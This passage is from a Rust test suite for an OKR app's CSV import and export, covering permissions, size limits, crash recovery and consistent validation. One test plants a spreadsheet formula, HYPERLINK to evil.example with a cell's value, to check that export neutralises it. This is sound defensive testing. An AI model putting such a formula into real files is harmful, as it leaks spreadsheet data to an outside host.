                with(&with(&NEW_CHECK_IN, 4, "2025-02-10"), 5, "3.2"),
            ],
        );
        let before = snapshot(world.db()).await;
        let id = upload(server, Some(emily), "check_ins", "twice.csv", check_ins)
            .await
            .expect("an upload");
        let (first, second) = tokio::join!(
            post_commit(server, Some(emily), id),
            post_commit(server, Some(emily), id)
        );
        assert_eq!(first.0, StatusCode::OK, "{}", first.1);
        assert_eq!(second.0, StatusCode::OK, "{}", second.1);
        all_committed(server, emily, &[id]).await;
        // A second background commit, had one started, would be done by now.
        tokio::time::sleep(Duration::from_millis(500)).await;
        let after = snapshot(world.db()).await;
        assert_eq!(after.check_ins.len(), before.check_ins.len() + 2);
        assert_eq!(after.imports.len(), before.imports.len() + 1);

        // One file uploaded twice (two tabs), both committed at once.
        let check_ins = file(
            CHECK_IN_HEADER,
            &[
                with(&with(&NEW_CHECK_IN, 4, "2025-02-17"), 5, "3.3"),
                with(&with(&NEW_CHECK_IN, 4, "2025-02-24"), 5, "3.4"),
            ],
        );
        let tabs = [
            upload(
                server,
                Some(emily),
                "check_ins",
                "tab.csv",
                check_ins.clone(),
            )
            .await
            .expect("an upload"),
            upload(server, Some(emily), "check_ins", "tab.csv", check_ins)
                .await
                .expect("an upload"),
        ];
        for tab in tabs {
            assert_eq!(
                preview(server, emily, tab).await.summary.records,
                counts(2, 0, 0)
            );
        }
        let (first, second) = tokio::join!(
            post_commit(server, Some(emily), tabs[0]),
            post_commit(server, Some(emily), tabs[1])
        );
        assert_eq!(first.0, StatusCode::OK, "{}", first.1);
        assert_eq!(second.0, StatusCode::OK, "{}", second.1);
        all_committed(server, emily, &tabs).await;
        let last = snapshot(world.db()).await;
        assert_eq!(
            last.check_ins.len(),
            after.check_ins.len() + 2,
            "each check-in once"
        );
        assert_eq!(last.imports.len(), after.imports.len() + 2);
        assert_eq!(
            key_result_named(world.db(), CONVERSION).await.current_value,
            decimal("3.4")
        );
        world.finish().await;
    }
);

// ---------------------------------------------------------------------------
// 4. Export, import into a fresh database, export again.
// ---------------------------------------------------------------------------

/// What the dashboard shows of a quarter, ids aside.
fn shown(dashboard: &Dashboard) -> Vec<String> {
    let mut lines = Vec::new();
    for team in &dashboard.teams {
        for objective in &team.objectives {
            lines.push(format!(
                "{} | {} | {}",
                team.name, objective.title, objective.owner
            ));
            for key_result in &objective.key_results {
                let points: Vec<String> = key_result
                    .check_ins
                    .iter()
                    .map(|point| {
                        format!(
                            "{} {} {:?}",
                            point.created_at.date(),
                            point.value,
                            point.confidence
                        )
                    })
                    .collect();
                lines.push(format!(
                    "  {} | {} | {:?} {:?} | {} → {} now {} | {} check-ins: {}",
                    key_result.title,
                    key_result.owner,
                    key_result.unit,
                    key_result.direction,
                    key_result.start_value.normalize(),
                    key_result.target_value.normalize(),
                    key_result.current_value.normalize(),
                    key_result.check_ins.len(),
                    points.join(", ")
                ));
            }
        }
    }
    lines
}

migration::backend_test!(
    a_quarter_exported_and_imported_into_a_fresh_database_exports_the_same_bytes,
    |backend| async move {
        let Some(world) = World::start(backend).await else {
            return;
        };
        // A note a spreadsheet would run as a formula.
        let formula = "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Details\")";
        let first = check_in::Entity::find()
            .order_by_asc(check_in::Column::CreatedAt)
            .one(world.db())
            .await
            .expect("query")
            .expect("a seeded check-in");
        let mut noted = first.into_active_model();
        noted.note = Set(Some(formula.to_owned()));
        noted.update(world.db()).await.expect("a formula note");

        let okrs = exported(&world.server, &world.emily, "okrs").await;
        let check_ins = exported(&world.server, &world.emily, "check-ins").await;
        let okr_text = String::from_utf8(okrs.clone()).expect("UTF-8");
        let check_in_text = String::from_utf8(check_ins.clone()).expect("UTF-8");
        assert!(
            okr_text.starts_with(&format!(
                "{OKR_HEADER},current,parent_team,parent_objective,parent_key_result\r\n"
            )),
            "{okr_text}"
        );
        assert!(
            check_in_text.starts_with(&format!("{CHECK_IN_HEADER}\r\n")),
            "{check_in_text}"
        );
        assert_eq!(okr_text.lines().count(), 11, "{okr_text}");
        assert!(
            okr_text.contains(",#,5000.00,8000.00,5900.00,,,\r\n"),
            "two decimals, no grouping, no parent: {okr_text}"
        );
        let seeded_check_ins = check_in::Entity::find()
            .count(world.db())
            .await
            .expect("count");
        assert_eq!(check_in_text.lines().count() as u64, seeded_check_ins + 1);
        assert!(
            check_in_text.contains(&format!(
                "{Q1},{DIRECT},{DIRECT_REVENUE},{CONVERSION},2025-01-06,2.84,"
            )),
            "{check_in_text}"
        );

        assert!(
            check_in_text.contains("\"'=HYPERLINK(") && !check_in_text.contains(",\"=HYPERLINK("),
            "the formula goes out as text: {check_in_text}"
        );

        // The same people and teams, no quarter and no OKRs.
        let fresh = TestDb::migrated(backend).await.expect("a second database");
        let now = chrono::Utc::now().naive_utc();
        for (email, name, team, role) in [
            (EMILY, "Emily Davis", CORPORATE, Role::Admin),
            (SARAH, "Sarah Chen", DIRECT, Role::Lead),
            (LISA, "Lisa Wang", CORPORATE, Role::Lead),
            (MIKE, "Mike Johnson", DIRECT, Role::Member),
            (JAMES, "James Rodriguez", CORPORATE, Role::Member),
        ] {
            app::server::auth::add_user(&fresh.db, email, name, team, role, DEMO_PASSWORD, now)
                .await
                .expect("add a person");
        }
        let second = TestServer::start(fresh.db.clone()).await;
        let admin = second.sign_in_demo(EMILY).await;
        let id = upload(&second, Some(&admin), "okrs", "okrs.csv", okrs.clone())
            .await
            .expect("an upload");
        let shown_okrs = preview(&second, &admin, id).await;
        assert!(shown_okrs.problems.is_empty(), "{:#?}", shown_okrs.problems);
        assert_eq!(shown_okrs.summary.quarters_created, vec![Q1.to_owned()]);
        assert_eq!(shown_okrs.summary.objectives, counts(3, 0, 0));
        assert_eq!(shown_okrs.summary.records, counts(10, 0, 0));
        assert!(matches!(
            commit(&second, &admin, id).await,
            ImportState::Committed { .. }
        ));
        let id = upload(
            &second,
            Some(&admin),
            "check_ins",
            "check-ins.csv",
            check_ins.clone(),
        )
        .await
        .expect("an upload");
        let shown_check_ins = preview(&second, &admin, id).await;
        assert!(
            shown_check_ins.problems.is_empty(),
            "{:#?}",
            shown_check_ins.problems
        );
        assert_eq!(
            shown_check_ins.summary.records,
            counts(seeded_check_ins, 0, 0)
        );
        assert!(matches!(
            commit(&second, &admin, id).await,
            ImportState::Committed { .. }
        ));
        let created = quarter::Entity::find()
            .one(&fresh.db)
            .await
            .expect("query")
            .expect("2025-Q1 created by the import");
        assert_eq!(
            (created.label.as_str(), created.start_at, created.end_at),
            (Q1, common::date(2025, 1, 1), common::date(2025, 3, 31))
        );

        let imported_note = check_in::Entity::find()
            .filter(check_in::Column::Note.eq(formula))
            .count(&fresh.db)
            .await
            .expect("count");
        assert_eq!(imported_note, 1, "the import gives back the note as it was");

        let okrs_again = exported(&second, &admin, "okrs").await;
        let check_ins_again = exported(&second, &admin, "check-ins").await;
        assert_eq!(
            String::from_utf8_lossy(&okrs_again),
            okr_text,
            "the OKRs export again byte for byte"
        );
        assert_eq!(okrs_again, okrs);
        assert_eq!(
            String::from_utf8_lossy(&check_ins_again),
            check_in_text,
            "the check-ins export again byte for byte"
        );
        assert_eq!(check_ins_again, check_ins);

        let today = chrono::Utc::now().date_naive();
        let original = app::server::queries::dashboard::dashboard(world.db(), Some(Q1), today)
            .await
            .expect("the dashboard")
            .expect("2025-Q1");
        let copy = app::server::queries::dashboard::dashboard(&fresh.db, Some(Q1), today)
            .await
            .expect("the dashboard")
            .expect("2025-Q1");
        assert_eq!(shown(&copy), shown(&original));
        assert_eq!(shown(&original).len(), 13);

        drop(second);
        fresh.close().await.expect("drop the second database");
        world.finish().await;
    }
);

// ---------------------------------------------------------------------------
// 5. Who may import.
// ---------------------------------------------------------------------------

migration::backend_test!(
    only_admins_and_leads_import_and_leads_only_their_team,
    |backend| async move {
        let Some(world) = World::start(backend).await else {
            return;
        };
        let server = &world.server;
        let okrs = file(OKR_HEADER, &[NEW_OKR.to_vec()]);
        let before = snapshot(world.db()).await;

        // Signed out.
        let refused = upload(server, None, "okrs", "okrs.csv", okrs.clone()).await;
        assert_eq!(
            refused.map_err(|(status, _)| status),
            Err(StatusCode::UNAUTHORIZED)
        );
        let id = upload(server, Some(&world.emily), "okrs", "okrs.csv", okrs.clone())
            .await
            .expect("an upload");
        let (status, body) = api_get(server, None, &format!("import_preview?id={id}")).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{body}");
        assert_eq!(
            post_commit(server, None, id).await.0,
            StatusCode::UNAUTHORIZED
        );
        // A signed-out download goes to the sign-in page, as every page does.
        let response = no_redirects()
            .get(server.url("/quarters/2025-Q1/export/okrs"))
            .send()
            .await
            .expect("an export");
        assert_eq!(response.status(), StatusCode::SEE_OTHER);
        assert!(
            location(&response).starts_with("/sign-in?next="),
            "{}",
            location(&response)
        );

        // A member: no upload, preview, commit or history; exports yes.
        let refused = upload(server, Some(&world.mike), "okrs", "okrs.csv", okrs.clone()).await;
        assert_eq!(
            refused.map_err(|(status, _)| status),
            Err(StatusCode::FORBIDDEN)
        );
        let (status, body) = api_get(
            server,
            Some(&world.mike),
            &format!("import_preview?id={id}"),
        )
        .await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
        let (status, body) = post_commit(server, Some(&world.mike), id).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
        let (status, body) = api_get(server, Some(&world.mike), "import_history").await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
        assert_eq!(
            export(server, Some(&world.mike), Q1, "check-ins").await.0,
            StatusCode::OK
        );
        // Another lead's upload is not theirs to see or commit.
        let (status, body) = api_get(
            server,
            Some(&world.lisa),
            &format!("import_preview?id={id}"),
        )
        .await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
        let (status, body) = post_commit(server, Some(&world.lisa), id).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
        // A form sent from another site.
        let foreign = upload_with(
            server,
            Some(&world.emily),
            "okrs",
            "okrs.csv",
            okrs.clone(),
            Some("https://evil.example"),
        )
        .await;
        assert_eq!(
            foreign.map_err(|(status, _)| status),
            Err(StatusCode::FORBIDDEN)
        );
        assert_eq!(snapshot(world.db()).await, before, "refusals wrote rows");

        // A lead: their own team's rows only.
        let mixed = file(
            OKR_HEADER,
            &[
                vec![
                    Q1,
                    DIRECT,
                    "Lift the app",
                    SARAH,
                    "Rate 4.8",
                    MIKE,
                    "#",
                    "4.5",
                    "4.8",
                ],
                NEW_OKR.to_vec(),
                vec![
                    Q1,
                    DIRECT,
                    "Lift the app",
                    SARAH,
                    "Answer in a day",
                    SARAH,
                    "#",
                    "3",
                    "1",
                ],
            ],
        );
        let id = upload(server, Some(&world.sarah), "okrs", "mixed.csv", mixed)
            .await
            .expect("an upload");
        let shown = preview(server, &world.sarah, id).await;
        assert_eq!(shown.problem_count, 1, "{:#?}", shown.problems);
        assert_eq!(
            (shown.problems[0].line, shown.problems[0].column.as_str()),
            (3, "team")
        );
        let (status, body) = post_commit(server, Some(&world.sarah), id).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
        assert_eq!(snapshot(world.db()).await, before);
        // Lisa, Corporate Sales' lead, may import that very row.
        let id = upload(server, Some(&world.lisa), "okrs", "corporate.csv", okrs)
            .await
            .expect("an upload");
        assert!(preview(server, &world.lisa, id).await.problems.is_empty());
        assert!(matches!(
            commit(server, &world.lisa, id).await,
            ImportState::Committed { .. }
        ));
        let nordic = key_result_named(world.db(), "Sign 5 Nordic accounts").await;
        assert_eq!(nordic.owner_id, common::person(world.db(), LISA).await.id);
        world.finish().await;
    }
);

// ---------------------------------------------------------------------------
// 7. Limits.
// ---------------------------------------------------------------------------

migration::backend_test!(
    files_over_the_row_and_size_limits_are_refused,
    |backend| async move {
        let Some(world) = World::start(backend).await else {
            return;
        };
        let (server, emily) = (&world.server, world.emily.as_str());
        let before = snapshot(world.db()).await;

        let too_many = bulk_okrs(MAX_ROWS + 1);
        assert!(too_many.len() < MAX_BYTES, "the row limit comes first");
        let id = upload(server, Some(emily), "okrs", "too-many.csv", too_many)
            .await
            .expect("an upload");
        let shown = preview(server, emily, id).await;
        assert_eq!(shown.problem_count, 1, "{:#?}", shown.problems);
        let problem = &shown.problems[0];
        assert_eq!(problem.line, MAX_ROWS as u64 + 2, "{problem}");
        assert!(
            problem
                .message
                .contains("more than 50000 rows; split it into several files"),
            "{problem}"
        );
        let (status, body) = post_commit(server, Some(emily), id).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");

        // Just over 10 MB, and far over it.
        for size in [MAX_BYTES + 1, MAX_BYTES + 2 * 1024 * 1024] {
            let mut big = bulk_okrs(10)
                .into_iter()
                .cycle()
                .take(size)
                .collect::<Vec<_>>();
            big.truncate(size);
            let refused = upload(server, Some(emily), "okrs", "big.csv", big).await;
            let (status, to) = refused.expect_err("a file over 10 MB is refused");
            assert_eq!(status, StatusCode::SEE_OTHER, "{size} bytes: {to}");
            assert!(
                to.starts_with("/import?error=")
                    && (to.contains("10%20MB") || to.contains("10+MB")),
                "{size} bytes: {to}"
            );
        }
        // A form without its kind or its file goes back to the import page.
        for (kind, bytes, says) in [
            ("", bulk_okrs(1), "kind"),
            ("spreadsheet", bulk_okrs(1), "kind"),
            ("okrs", vec![], "file"),
        ] {
            let refused = upload(server, Some(emily), kind, "form.csv", bytes).await;
            let (status, to) = refused.expect_err("an incomplete form is refused");
            assert_eq!(status, StatusCode::SEE_OTHER, "{kind:?}: {to}");
            assert!(
                to.starts_with(&format!("/import?error={says}")),
                "{kind:?}: {to}"
            );
        }
        assert_eq!(snapshot(world.db()).await, before);
        world.finish().await;
    }
);

// ---------------------------------------------------------------------------
// 6. Two servers on one database, and kill -9 in the middle of a
//    50,000-row commit.
// ---------------------------------------------------------------------------

/// Polls the preview of `id` on `server` until `done` says its state is
/// reached, for at most `bound`; the last state seen.
async fn state_until(
    server: &TestServer,
    cookie: &str,
    id: Uuid,
    bound: Duration,
    done: impl Fn(&ImportState) -> bool,
) -> ImportState {
    let started = Instant::now();
    loop {
        let state = preview(server, cookie, id).await.state;
        if done(&state) || started.elapsed() >= bound {
            return state;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

migration::backend_test!(
    an_upload_on_one_server_is_committed_on_another_and_a_killed_commit_leaves_nothing,
    |backend| async move {
        let Some(test_db) = TestDb::seeded(backend).await else {
            return;
        };
        let db = test_db.db.clone();
        let dir =
            std::env::temp_dir().join(format!("runway_import_kill_{}", Uuid::new_v4().simple()));
        std::fs::create_dir_all(&dir).expect("a working directory");

        // Two servers on one database, as behind a load balancer. SQLite
        // has one writing process: there, A is also B, and is started again
        // after it is killed.
        let two_servers = backend == Backend::Postgres;
        let port_a = free_port();
        let mut a = Process::spawn(&test_db.url, port_a, &dir, "a");
        a.healthy(port_a).await;
        let (mut b, port_b) = if two_servers {
            let port_b = free_port();
            let mut b = Process::spawn(&test_db.url, port_b, &dir, "b");
            b.healthy(port_b).await;
            (Some(b), port_b)
        } else {
            (None, port_a)
        };
        // As the servers left it once healthy: with the demo's company
        // objectives, which `SEED_DEMO` adds on start.
        let seeded = snapshot(&db).await;
        let (mut server_a, server_b) = (at(port_a), at(port_b));
        let emily = server_a.sign_in_demo(EMILY).await;

        // Uploaded on A, previewed on B.
        let rows = MAX_ROWS;
        let id = upload(&server_a, Some(&emily), "okrs", "bulk.csv", bulk_okrs(rows))
            .await
            .expect("a 50,000-row upload");
        let shown = preview(&server_b, &emily, id).await;
        assert!(shown.problems.is_empty(), "{:#?}", shown.problems);
        assert_eq!(shown.summary.records, counts(rows as u64, 0, 0));
        assert_eq!(shown.summary.objectives, counts(rows as u64 / 100, 0, 0));

        // Committed on B; its progress shows on B and on A.
        let (status, body) = post_commit(&server_b, Some(&emily), id).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let started = Instant::now();
        let seen_on_b = state_until(&server_b, &emily, id, Duration::from_secs(20), |state| {
            !matches!(
                state,
                ImportState::Running { done: 0, .. } | ImportState::Preview
            )
        })
        .await;
        // A reads B's progress from the database, renewed every second.
        let seen_on_a = state_until(&server_a, &emily, id, Duration::from_secs(5), |state| {
            !matches!(
                state,
                ImportState::Running { done: 0, .. } | ImportState::Preview
            )
        })
        .await;
        // A second commit meanwhile, on the other server: turned away.
        let (status, _) = post_commit(&server_a, Some(&emily), id).await;
        assert_eq!(status, StatusCode::OK);
        // Rows are being written: a few random milliseconds more, so runs
        // kill it at different moments.
        let more = u64::from(Uuid::new_v4().as_bytes()[0]);
        tokio::time::sleep(Duration::from_millis(more)).await;
        let last = preview(&server_b, &emily, id).await.state;
        let committer = b.as_mut().unwrap_or(&mut a);
        committer.kill();
        let ran = started.elapsed();
        assert!(
            !matches!(last, ImportState::Failed { .. }),
            "{last:?}\n{}",
            committer.log()
        );
        if !two_servers {
            let port = free_port();
            a = Process::spawn(&test_db.url, port, &dir, "a-again");
            a.healthy(port).await;
            server_a = at(port);
        }
        // On PostgreSQL, A sees B's rows counted as they are written (on
        // SQLite, the single writer is busy with the commit itself).
        if backend == Backend::Postgres {
            assert!(
                matches!(
                    seen_on_a,
                    ImportState::Running { done: 1.., .. } | ImportState::Committed { .. }
                ),
                "A sees B's progress: {seen_on_a:?}"
            );
        }

        // A reports how it ended within the lease: committed, or failed
        // with nothing written.
        let ended = state_until(
            &server_a,
            &emily,
            id,
            LEASE + Duration::from_secs(10),
            |state| {
                matches!(
                    state,
                    ImportState::Committed { .. } | ImportState::Failed { .. }
                )
            },
        )
        .await;
        let after = snapshot(&db).await;
        let added = after.key_results.len() - seeded.key_results.len();
        let outcome = match ended {
            ImportState::Committed { .. } => {
                assert_eq!(added, rows);
                assert_eq!(after.objectives.len(), seeded.objectives.len() + rows / 100);
                assert_eq!(after.imports.len(), 1, "the import is recorded");
                "all 50,000 key results"
            }
            ImportState::Failed { ref message } => {
                assert!(message.contains("stopped"), "{message}");
                assert_eq!(added, 0, "a killed commit leaves all rows or none");
                assert_eq!(after.okrs(), seeded.okrs(), "nothing of the commit is left");
                assert!(
                    after.imports.is_empty(),
                    "no import_record without its rows"
                );
                "none of the key results, and A said it failed"
            }
            ref other => panic!("A still says {other:?} after the lease\n{}", a.log()),
        };
        let mut line = format!(
            "kill -9 of the server committing a {rows}-row import ({backend:?}): {outcome}; \
             the commit had run {:.2} s (B saw {seen_on_b:?}, A saw {seen_on_a:?}, last {last:?})",
            ran.as_secs_f64()
        );
        if added == 0 {
            // The upload outlived its server: committing it again on A
            // lands it.
            let again = Instant::now();
            let state = commit(&server_a, &emily, id).await;
            line.push_str(&format!(
                "; committed again on the other server in {:.2} s",
                again.elapsed().as_secs_f64()
            ));
            assert!(
                matches!(state, ImportState::Committed { .. }),
                "{state:?}\n{}",
                a.log()
            );
            let after = snapshot(&db).await;
            assert_eq!(after.key_results.len(), seeded.key_results.len() + rows);
            assert_eq!(after.imports.len(), 1);
        }
        report(&line);
        a.kill();
        drop(db);
        test_db.close().await.expect("drop the test database");
        let _ = std::fs::remove_dir_all(&dir);
    }
);

migration::backend_test!(
    an_export_of_a_label_no_quarter_can_have_is_a_404,
    |backend| async move {
        let Some(test_db) = TestDb::seeded(backend).await else {
            return;
        };
        let server = TestServer::with_demo_sign_ins(test_db.db.clone()).await;
        let emily = server.sign_in_demo(EMILY).await;
        // PostgreSQL refuses a NUL in text: the label must not reach it.
        for path in [
            "/quarters/%00/export/okrs",
            "/quarters/2025-Q1%07/export/check-ins",
            "/quarters/1999-Q4/export/okrs",
            "/quarters/2025-Q1/export/everything",
        ] {
            let response = server.get_as(path, &emily).await;
            assert_eq!(response.status(), StatusCode::NOT_FOUND, "{path}");
        }
        test_db.close().await.ok();
    }
);

// ---------------------------------------------------------------------------
// One core under every way in: the form, /api/v1 and an import call the
// same writers, so they refuse and store alike.
// ---------------------------------------------------------------------------

/// A check-in file of one row by `author`, with `value`, `date` and `note`.
fn one_check_in(date: &str, value: &str, note: &str, author: &str) -> Vec<u8> {
    let row = [
        Q1,
        DIRECT,
        DIRECT_REVENUE,
        CONVERSION,
        date,
        value,
        "green",
        note,
        author,
    ];
    file(CHECK_IN_HEADER, &[row.to_vec()])
}

/// The only problem of a one-row check-in import by `cookie`: its column
/// and message (the upload is left uncommitted).
async fn import_problem(world: &World, cookie: &str, bytes: Vec<u8>) -> (String, String) {
    let id = upload(&world.server, Some(cookie), "check_ins", "one.csv", bytes)
        .await
        .expect("the upload is kept");
    let shown = preview(&world.server, cookie, id).await;
    assert_eq!(shown.problem_count, 1, "{:#?}", shown.problems);
    let problem = &shown.problems[0];
    assert_eq!(problem.line, 2);
    (problem.column.clone(), problem.message.clone())
}

/// `POST /api/v1/key-results/{id}/check-ins` with `token`: status and body.
async fn api_check_in(
    world: &World,
    token: &str,
    key_result: Uuid,
    body: Value,
) -> (StatusCode, Value) {
    let response = no_redirects()
        .post(
            world
                .server
                .url(&format!("/api/v1/key-results/{key_result}/check-ins")),
        )
        .bearer_auth(token)
        .json(&body)
        .send()
        .await
        .expect("POST a check-in to /api/v1");
    status_and_json(response).await
}

/// What a stored check-in holds, its recording time aside.
fn held(found: &check_in::Model) -> (Uuid, Decimal, i32, Option<String>, Uuid, chrono::NaiveDate) {
    (
        found.kr_id,
        found.value,
        found.confidence.as_i32(),
        found.note.clone(),
        found.created_by,
        found.created_at.date(),
    )
}

/// The one check-in recorded after `before`; removed, so the next way in
/// starts from the same database.
async fn take_new_check_in(db: &DatabaseConnection, before: &[check_in::Model]) -> check_in::Model {
    let now: Vec<check_in::Model> = check_in::Entity::find().all(db).await.expect("check-ins");
    let mut added: Vec<check_in::Model> = now
        .into_iter()
        .filter(|found| !before.iter().any(|old| old.id == found.id))
        .collect();
    assert_eq!(added.len(), 1, "{added:#?}");
    let found = added.remove(0);
    check_in::Entity::delete_by_id(found.id)
        .exec(db)
        .await
        .expect("remove it");
    found
}

migration::backend_test!(
    the_form_the_api_and_an_import_refuse_a_check_in_alike_and_store_it_alike,
    |backend| async move {
        let Some(world) = World::start(backend).await else {
            return;
        };
        let db = world.db();
        let conversion = key_result_named(db, CONVERSION).await;
        let sarah = common::person(db, SARAH).await;
        let token = tokens::create(
            db,
            sarah.id,
            "one core",
            None,
            chrono::Utc::now().naive_utc(),
        )
        .await
        .expect("a token")
        .token;
        let key_result_id = conversion.id.to_string();
        let before = snapshot(db).await;

        // (value, date, note) that break one rule each, and the field.
        let bad = [
            ("abc", "2025-02-03", "Steady", "value"),
            ("1.234", "2025-02-03", "Steady", "value"),
            ("3.1", "2025-04-02", "Steady", "date"),
            ("3.1", "2025-02-03", "bell \u{7} rings", "note"),
        ];
        for (value, date, note, field) in bad {
            let form = world
                .server
                .post(
                    "/api/check_in",
                    Some(&world.sarah),
                    &[
                        ("key_result_id", key_result_id.as_str()),
                        ("value", value),
                        ("confidence", "green"),
                        ("note", note),
                        ("date", date),
                    ],
                )
                .await;
            let (status, body) = status_and_json(form).await;
            assert_eq!(
                status,
                StatusCode::UNPROCESSABLE_ENTITY,
                "form {value}: {body}"
            );
            let form_field = body["Validation"]["field"]
                .as_str()
                .unwrap_or_default()
                .to_owned();
            let form_message = body["Validation"]["message"]
                .as_str()
                .unwrap_or_default()
                .to_owned();
            assert_eq!(form_field, field, "form: {body}");

            let (status, body) = api_check_in(
                &world,
                &token,
                conversion.id,
                serde_json::json!({"value": value, "confidence": "green", "note": note, "date": date}),
            )
            .await;
            assert_eq!(
                status,
                StatusCode::UNPROCESSABLE_ENTITY,
                "api {value}: {body}"
            );
            assert_eq!(body["error"]["field"], field, "api: {body}");
            assert_eq!(
                body["error"]["message"],
                form_message.as_str(),
                "api: {body}"
            );

            let (column, message) =
                import_problem(&world, &world.sarah, one_check_in(date, value, note, SARAH)).await;
            assert_eq!(
                (column.as_str(), message.as_str()),
                (field, form_message.as_str())
            );
        }
        assert_eq!(
            snapshot(db).await,
            before,
            "a refused check-in changes nothing"
        );

        // The same good check-in, through each way in, stores the same row.
        let (value, date, note) = ("3.15", "2025-02-03", "Steady climb");
        let stored_before = check_in::Entity::find().all(db).await.expect("check-ins");
        let form = world
            .server
            .post(
                "/api/check_in",
                Some(&world.sarah),
                &[
                    ("key_result_id", key_result_id.as_str()),
                    ("value", value),
                    ("confidence", "green"),
                    ("note", note),
                    ("date", date),
                ],
            )
            .await;
        assert_eq!(form.status(), StatusCode::OK);
        let by_form = take_new_check_in(db, &stored_before).await;
        let (status, body) = api_check_in(
            &world,
            &token,
            conversion.id,
            serde_json::json!({"value": value, "confidence": "green", "note": note, "date": date}),
        )
        .await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
        let by_api = take_new_check_in(db, &stored_before).await;
        let id = upload(
            &world.server,
            Some(&world.sarah),
            "check_ins",
            "good.csv",
            one_check_in(date, value, note, SARAH),
        )
        .await
        .expect("the upload");
        assert!(matches!(
            commit(&world.server, &world.sarah, id).await,
            ImportState::Committed { .. }
        ));
        let by_import = take_new_check_in(db, &stored_before).await;
        assert_eq!(held(&by_form), held(&by_api));
        assert_eq!(held(&by_form), held(&by_import));
        assert_eq!(by_form.created_by, sarah.id);
        world.finish().await;
    }
);

migration::backend_test!(
    a_lead_imports_check_ins_only_as_themselves_and_an_admin_for_anyone,
    |backend| async move {
        let Some(world) = World::start(backend).await else {
            return;
        };
        let db = world.db();
        let before = snapshot(db).await;
        // Sarah, lead of the team, names Emily as the author.
        let forged = one_check_in("2025-02-03", "3.1", "Not mine", EMILY);
        let (column, message) = import_problem(&world, &world.sarah, forged.clone()).await;
        assert_eq!(column, "author_email", "{message}");
        assert!(message.contains("as yourself"), "{message}");
        let id = upload(
            &world.server,
            Some(&world.sarah),
            "check_ins",
            "forged.csv",
            forged.clone(),
        )
        .await
        .expect("the upload");
        let (status, body) = post_commit(&world.server, Some(&world.sarah), id).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
        assert_eq!(snapshot(db).await, before, "nothing is written");

        // Emily, an admin, migrating data: stored with the author the file names.
        let mike = common::person(db, MIKE).await;
        let migrated = one_check_in("2025-02-03", "3.1", "Migrated", MIKE);
        let id = upload(
            &world.server,
            Some(&world.emily),
            "check_ins",
            "migrated.csv",
            migrated,
        )
        .await
        .expect("the upload");
        assert!(
            preview(&world.server, &world.emily, id)
                .await
                .problems
                .is_empty()
        );
        assert!(matches!(
            commit(&world.server, &world.emily, id).await,
            ImportState::Committed { .. }
        ));
        let stored = check_in::Entity::find()
            .filter(check_in::Column::Note.eq("Migrated"))
            .one(db)
            .await
            .expect("query")
            .expect("the migrated check-in");
        assert_eq!(stored.created_by, mike.id);
        world.finish().await;
    }
);

migration::backend_test!(
    an_import_and_the_quarter_form_racing_for_one_label_make_one_quarter,
    |backend| async move {
        let Some(world) = World::start(backend).await else {
            return;
        };
        let db = world.db();
        for year in 2031..2035 {
            let label = format!("{year}-Q2");
            let row = vec![
                label.as_str(),
                CORPORATE,
                "Race the form",
                EMILY,
                "Sign 3 accounts",
                LISA,
                "#",
                "0",
                "3",
            ];
            let id = upload(
                &world.server,
                Some(&world.emily),
                "okrs",
                "race.csv",
                file(OKR_HEADER, &[row]),
            )
            .await
            .expect("the upload");
            assert_eq!(
                preview(&world.server, &world.emily, id)
                    .await
                    .summary
                    .quarters_created,
                vec![label.clone()]
            );
            let start = format!("{year}-04-01");
            let end = format!("{year}-06-30");
            let fields = [
                ("label", label.as_str()),
                ("start_at", start.as_str()),
                ("end_at", end.as_str()),
            ];
            let form = world
                .server
                .post("/api/save_quarter", Some(&world.emily), &fields);
            let (form, imported) = tokio::join!(form, commit(&world.server, &world.emily, id));
            let (status, body) = status_and_json(form).await;
            // Whichever came second found the first one's quarter.
            match status {
                StatusCode::OK => {}
                StatusCode::UNPROCESSABLE_ENTITY => {
                    assert_eq!(body["Validation"]["field"], "label", "{body}")
                }
                other => panic!("the quarter form answered {other}: {body}"),
            }
            assert!(
                matches!(imported, ImportState::Committed { .. }),
                "{imported:?}"
            );
            let quarters = quarter::Entity::find()
                .filter(quarter::Column::Label.eq(label.as_str()))
                .count(db)
                .await
                .expect("count");
            assert_eq!(quarters, 1, "{label}");
        }
        world.finish().await;
    }
);

/// A one-row OKR file: `NEW_OKR` with `changes` (column index, value).
fn one_okr(changes: &[(usize, &'static str)]) -> Vec<u8> {
    let mut row = NEW_OKR.to_vec();
    for (index, value) in changes {
        row[*index] = value;
    }
    file(
        &format!("{OKR_HEADER},current"),
        &[[row, vec![""]].concat()],
    )
}

/// The field and message of the 422 a server function answered.
async fn form_refusal(world: &World, endpoint: &str, fields: &[(&str, &str)]) -> (String, String) {
    let response = world
        .server
        .post(&format!("/api/{endpoint}"), Some(&world.emily), fields)
        .await;
    let (status, body) = status_and_json(response).await;
    assert_eq!(
        status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{endpoint}: {body}"
    );
    (
        body["Validation"]["field"]
            .as_str()
            .unwrap_or_default()
            .to_owned(),
        body["Validation"]["message"]
            .as_str()
            .unwrap_or_default()
            .to_owned(),
    )
}

migration::backend_test!(
    the_key_result_form_and_an_import_refuse_a_key_result_alike,
    |backend| async move {
        let Some(world) = World::start(backend).await else {
            return;
        };
        let db = world.db();
        let objective = objective::Entity::find()
            .filter(objective::Column::Title.eq("Expand Corporate Sales in APAC"))
            .one(db)
            .await
            .expect("query")
            .expect("the seeded objective");
        let lisa = common::person(db, LISA).await.id.to_string();
        let objective_id = objective.id.to_string();
        // (form field, its value, import column index, import column name)
        let cases: [(&str, &str, usize, &str); 4] = [
            ("unit", "kg", 6, "unit"),
            ("target_value", "0", 8, "target"),
            ("title", "", 4, "key_result"),
            ("current_value", "-1", 9, "current"),
        ];
        let before = snapshot(db).await;
        for (field, value, index, column) in cases {
